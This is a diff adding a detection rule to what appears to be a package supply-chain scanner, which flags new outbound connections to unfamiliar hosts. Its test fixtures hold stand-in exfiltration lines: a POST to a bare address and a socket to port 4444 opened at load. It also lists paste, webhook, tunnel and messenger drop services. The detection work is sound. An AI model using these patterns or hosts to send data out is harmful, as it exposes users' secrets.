@@ -1,0 +1,154 @@
+/**
+ * A package that talks to a host it never talked to. Most of it is honest, so it is only told; an address without a name,
+ * a drop box, a tunnel, a messenger's hook or a name put together at run time is where stolen things are sent.
+ */
+import type { Behavior } from '../../src/model/behavior.ts';
+import type { Rule } from '../../src/rule.ts';
+import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';
+
+export const networkAdded: Rule = defineRule({
+  id: 'network-added',
+  family: 'code',
+  title: 'The package connects to a host that it did not connect to before',
+  rationale: 'What leaves your machine, and what comes back, is decided by whoever holds that host.',
+  remedy: 'Find out whose host it is and what is sent there.',
+  level: 'notice',
+  incidents: [
+    {
+      what: '@solana/web3.js 1.95.6 and 1.95.7: private keys sent to a host registered days before',
+      when: '2024-12-02',
+      url: 'https://github.com/advisories/GHSA-jcxm-7wvp-g6p5',
+    },
+  ],
+  appliesToAdditions: true,
+  needs: ['behaviors'],
+  kinds: {
+    'odd-host': {
+      level: 'review',
+      about:
+        'A bare address, an odd port, a paste, request-catching, tunnel, file-drop or messenger host, or a computed name.',
+    },
+    'odd-host-at-load': { level: 'block', about: 'Such a host, connected to when the package is loaded or installed.' },
+    'at-load': { level: 'review', about: 'Under no condition, when the package is loaded or installed.' },
+  },
+  flags: [
+    {
+      title: 'a request when a function is called, and one when the package is loaded',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `exports.ask = () => fetch('https://api.invalid/v1');\nrequire('https').get('https://count.invalid/');\n`,
+      },
+      expect: [
+        {
+          kind: 'at-load',
+          message: 'https.get connects to count.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js'],
+        },
+        {
+          message: 'fetch connects to api.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 1 },
+          via: ['main', 'index.js', 'ask()'],
+        },
+      ],
+    },
+    {
+      title: 'a bare address when a function is called, and an odd port at load',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `exports.send = (body) => fetch('http://192.0.2.7/c', { method: 'POST', body });\nrequire('net').connect(4444, 'far.invalid');\nrequire('http').get('http://far.invalid:8443/x');\n`,
+      },
+      expect: [
+        {
+          kind: 'at-load',
+          message: 'net.connect connects to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js'],
+        },
+        {
+          kind: 'odd-host-at-load',
+          message: 'http.get connects to far.invalid:8443',
+          at: { in: 'tarball', path: 'index.js', line: 3 },
+          via: ['main', 'index.js'],
+        },
+        {
+          kind: 'odd-host',
+          message: 'fetch connects to 192.0.2.7',
+          at: { in: 'tarball', path: 'index.js', line: 1 },
+          via: ['main', 'index.js', 'send()'],
+        },
+      ],
+    },
+  ],
+  passes: [
+    {
+      title: 'the same host as before by other means, a host that the caller gives, addresses in text, the own machine',
+      before: {
+        'index.js': `exports.get = () => fetch('https://api.invalid/v1');\nexports.any = (url) => fetch(url);\n`,
+      },
+      after: {
+        'index.js': `
+// See https://docs.invalid/ and https://192.0.2.1/
+exports.home = 'https://project.invalid/';
+exports.get = () => require('https').get({ hostname: 'api.invalid', path: '/v2' });
+exports.any = (url, options) => fetch(url, options);
+exports.local = () => fetch('http://localhost:3000/health');
+`,
+      },
+    },
+  ],
+  check({ behaviors }) {
+    return behaviors.added.filter(connects).map((behavior) => {
+      const address = addressOf(behavior);
+      const message = `${behavior.api} connects to ${address === undefined ? 'a host that is not told' : shorten(address)}`;
+      return evidenceOf(behavior, message, kindOf(behavior, address));
+    });
+  },
+});
+
+function connects(behavior: Behavior): boolean {
+  if (behavior.kind !== 'network' || behavior.tier === 'unreached') return false;
+  const address = addressOf(behavior);
+  if (address === undefined) return behavior.tier !== 'call' && behavior.root !== 'bin';
+  return !/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1?\])(?::\d+)?$/.test(address);
+}
+
+function kindOf(
+  { tier, marks, root, api }: Behavior,
+  address: string | undefined,
+): 'odd-host' | 'odd-host-at-load' | 'at-load' | undefined {
+  const early = tier !== 'call' && root !== 'bin';
+  if (address !== undefined && isOdd(address)) return early ? 'odd-host-at-load' : 'odd-host';
+  // A constructor that is only named makes no connection yet.
+  if (address === undefined && /^[A-Z]|Socket$/.test(api)) return undefined;
+  return early && !marks.includes('conditional') && !marks.includes('deferred') ? 'at-load' : undefined;
+}
+
+/** Host and port; undefined when the text does not tell the host. */
+function addressOf({ detail }: Behavior): string | undefined {
+  if (detail === undefined) return undefined;
+  const match = /^(?:[a-z][a-z+.-]*:)?(?:\/\/)?(?:[^/@\s]*@)?(\[[0-9a-f:]+\](?::\d+)?|[^/?#\s]+)/i.exec(detail);
+  const address = match?.[1]?.toLowerCase();
+  return address === undefined || address.includes('…') || /^[$<]/.test(address) || !/[.:]/.test(address)
+    ? undefined
+    : address;
+}
+
+const ordinaryPorts = new Set(['80', '443', '8080']);
+
+/** Services that take in what anybody sends, or hand out what anybody put there, without saying who that was. */
+const dropPlaces =
+  /(?:^|\.)(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|transfer\.sh|file\.io|gofile\.io|anonfiles\.com|0x0\.st|webhook\.site|requestbin\.\w+|pipedream\.net|beeceptor\.com|interact\.sh|oast\.\w+|oastify\.com|burpcollaborator\.net|ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|loca\.lt|serveo\.net|api\.telegram\.org|discord\.com|discordapp\.com|hooks\.slack\.com|ipfs\.io|duckdns\.org|no-ip\.\w+|onion)(?::\d+)?$/;
+
+function isOdd(address: string): boolean {
+  const port = /:(\d+)$/.exec(address)?.[1];
+  const host = port === undefined ? address : address.slice(0, -port.length - 1);
+  if (port !== undefined && !ordinaryPorts.has(port)) return true;
+  return isBareAddress(host) || dropPlaces.test(host);
+}
+
+/** Dotted, bracketed, or one number: all are addresses to a client. Private networks are somebody's own. */
+function isBareAddress(host: string): boolean {
+  if (/^(?:10|127|169\.254|192\.168|172\.(?:1[6-9]|2\d|3[01]))\./.test(host)) return host === '169.254.169.254';
+  return /^(?:\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-f:]+\]|0x[0-9a-f]{8}|\d{8,10})$/.test(host);
+}
